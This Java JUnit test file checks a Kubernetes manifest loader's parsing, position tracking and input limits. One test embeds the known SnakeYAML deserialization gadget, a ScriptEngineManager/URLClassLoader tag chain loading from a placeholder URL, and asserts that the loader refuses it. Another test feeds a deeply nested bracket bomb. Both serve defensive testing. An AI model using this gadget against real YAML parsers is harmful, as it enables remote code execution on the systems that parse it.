package dev.palisade.load;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.palisade.model.ManifestObject;
import dev.palisade.model.Position;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class ManifestLoaderTest {
    private final ManifestLoader loader = new ManifestLoader();

    @Test
    void everyNodeKeepsItsPosition() {
        SourceFile f = loader.load("a.yaml", """
                apiVersion: apps/v1
                kind: Deployment
                metadata:
                  name: web
                  labels:
                    app.kubernetes.io/name: web
                spec:
                  template:
                    spec:
                      containers:
                        - name: app
                          image: nginx
                """);
        ManifestObject o = f.objects().get(0);
        assertEquals(new Position(4, 3), o.positions().exact("metadata.name"));
        assertEquals(new Position(6, 5), o.positions().exact("metadata.labels['app.kubernetes.io/name']"));
        assertEquals(new Position(11, 11), o.positions().exact("spec.template.spec.containers[0]"));
        assertEquals(new Position(12, 11), o.positions().exact("spec.template.spec.containers[0].image"));
        // a missing field points at its nearest ancestor
        assertEquals(new Position(8, 3), o.positions().locate("spec.template.metadata.labels"));
    }

    @Test
    void aTagWhoseEscapesDecodeToSpacesIsASyntaxProblemWhereTheTagIs() {
        // snakeyaml throws IllegalArgumentException, not a YAML error, for these (found by fuzzing)
        SourceFile f = loader.load("t.yaml", """
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: kept}
                ---
                data:
                  k: !b%20 v
                """);
        assertEquals(List.of("kept"), f.objects().stream().map(ManifestObject::name).toList());
        assertEquals(1, f.problems().size(), f.problems()::toString);
        assertEquals(LoadProblem.Kind.SYNTAX, f.problems().get(0).kind());
        assertEquals(new Position(6, 6), f.problems().get(0).position());

        SourceFile cutOff = loader.load("c.yaml", "!-%A"); // the end of the text cuts the escape off
        assertEquals(LoadProblem.Kind.SYNTAX, cutOff.problems().get(0).kind());
        assertEquals(new Position(1, 1), cutOff.problems().get(0).position());
    }

    @Test
    void multiDocumentListsEmptyAndCommentOnlyDocuments() {
        SourceFile f = loader.load("m.yaml", """
                # leading comment
                ---
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: one}
                ---
                # only a comment
                ---
                ...
                ---
                apiVersion: v1
                kind: List
                items:
                  - apiVersion: v1
                    kind: Service
                    metadata: {name: two}
                  - apiVersion: v1
                    kind: Secret
                    metadata: {name: three}
                """);
        assertEquals(List.of(), f.problems());
        assertEquals(List.of("one", "two", "three"), f.objects().stream().map(ManifestObject::name).toList());
        // positions of list items are relative to the item, in file coordinates
        assertEquals(new Position(15, 5), f.objects().get(1).positions().exact("kind"));
    }

    @Test
    void typedListsAreExpandedToo() {
        SourceFile f = loader.load("l.yaml", """
                apiVersion: v1
                kind: ServiceList
                items:
                  - {apiVersion: v1, kind: Service, metadata: {name: a}}
                """);
        assertEquals(1, f.objects().size());
        assertEquals("Service", f.objects().get(0).kind());
    }

    @Test
    void jsonFilesWithPositions() {
        SourceFile f = loader.load("p.json", """
                {
                  "apiVersion": "v1",
                  "kind": "Pod",
                  "metadata": {"name": "p"},
                  "spec": {"containers": [{"name": "c", "image": "nginx:1"}]}
                }
                """);
        assertEquals(List.of(), f.problems());
        assertEquals(new Position(5, 27), f.objects().get(0).positions().exact("spec.containers[0]"));
    }

    @Test
    void yaml11ScalarsResolveAsKubectlDoes() {
        SourceFile f = loader.load("s.yaml", """
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: s}
                data:
                  a: yes
                  b: 0755
                  c: 1e3
                  d: "yes"
                  e: 0x1F
                  f: ~
                """);
        var data = f.objects().get(0).tree().get("data");
        assertTrue(data.get("a").isBoolean());
        assertEquals(493, data.get("b").asInt());
        assertTrue(data.get("c").isDouble());
        assertTrue(data.get("d").isTextual());
        assertEquals(31, data.get("e").asInt());
        assertTrue(data.get("f").isNull());
        var positions = f.objects().get(0).positions();
        assertEquals("0755", positions.plainScalar("data.b"));
        assertNull(positions.plainScalar("data.d"));
    }

    @Test
    void bomAndCrlfAreRead() {
        byte[] bytes = ("\uFEFFapiVersion: v1\r\nkind: ConfigMap\r\nmetadata:\r\n  name: crlf\r\n")
                .getBytes(StandardCharsets.UTF_8);
        SourceFile f = loader.load("bom.yaml", bytes);
        assertEquals(List.of(), f.problems());
        assertEquals("crlf", f.objects().get(0).name());
        assertEquals(new Position(4, 3), f.objects().get(0).positions().exact("metadata.name"));
    }

    @Test
    void invalidUtf8IsAProblemWithAPosition() {
        byte[] bytes = {'a', ':', ' ', 'b', '\n', 'c', ':', ' ', (byte) 0xC3, (byte) 0x28, '\n'};
        SourceFile f = loader.load("bad.yaml", bytes);
        assertEquals(1, f.problems().size());
        LoadProblem p = f.problems().get(0);
        assertEquals(LoadProblem.Kind.SYNTAX, p.kind());
        assertEquals(new Position(2, 4), p.position());
    }

    @Test
    void anEscapeCutOffByTheEndOfTheTextIsAProblemWithAPosition() {
        // snakeyaml throws NumberFormatException here instead of a YAML error (found by fuzzing)
        SourceFile f = loader.load("cut.yaml", "apiVersion: v1\nkind: ConfigMap\ndata:\n  a: \"x \\u");
        assertEquals(1, f.problems().size(), f.problems().toString());
        LoadProblem p = f.problems().get(0);
        assertEquals(LoadProblem.Kind.SYNTAX, p.kind());
        assertEquals(new Position(4, 9), p.position());
    }

    @Test
    void syntaxErrorKeepsEarlierDocuments() {
        SourceFile f = loader.load("e.yaml", """
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: good}
                ---
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: [unclosed}
                """);
        assertEquals(1, f.objects().size());
        assertEquals(1, f.problems().size());
        assertEquals(LoadProblem.Kind.SYNTAX, f.problems().get(0).kind());
    }

    @Test
    void globalTagsAreRefusedWithAPosition() {
        SourceFile f = loader.load("t.yaml", """
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: t}
                data:
                  x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                """);
        assertEquals(0, f.objects().size());
        assertEquals(1, f.problems().size());
        assertEquals(new Position(5, 6), f.problems().get(0).position());
        assertTrue(f.problems().get(0).message().contains("tag is not allowed"));
    }

    @Test
    void deepNestingIsRefusedNotCrashed() {
        String deep = "a: ".repeat(0) + "[".repeat(5000) + "]".repeat(5000);
        SourceFile f = loader.load("deep.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: d}\ndata: " + deep + "\n");
        assertEquals(0, f.objects().size());
        assertEquals(1, f.problems().size());
    }

    @Test
    void documentOverTheSizeLimitIsRefused() {
        ManifestLoader small = new ManifestLoader(new LoaderLimits(1 << 20, 1000, 50, 10_000, 50), "default");
        String big = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big}\ndata:\n  k: " + "x".repeat(2000) + "\n";
        SourceFile f = small.load("big.yaml", big);
        assertEquals(0, f.objects().size());
        assertEquals(LoadProblem.Kind.TOO_LARGE, f.problems().get(0).kind());
    }

    @Test
    void namespacesDefaultUnlessClusterScoped() {
        ManifestLoader ns = new ManifestLoader(LoaderLimits.DEFAULT, "team-a");
        SourceFile f = ns.load("n.yaml", """
                apiVersion: v1
                kind: Service
                metadata: {name: s}
                ---
                apiVersion: v1
                kind: PersistentVolume
                metadata: {name: pv}
                ---
                apiVersion: v1
                kind: Service
                metadata: {name: t, namespace: other}
                """);
        assertEquals("team-a", f.objects().get(0).namespace());
        assertNull(f.objects().get(1).namespace());
        assertEquals("other", f.objects().get(2).namespace());
    }
}
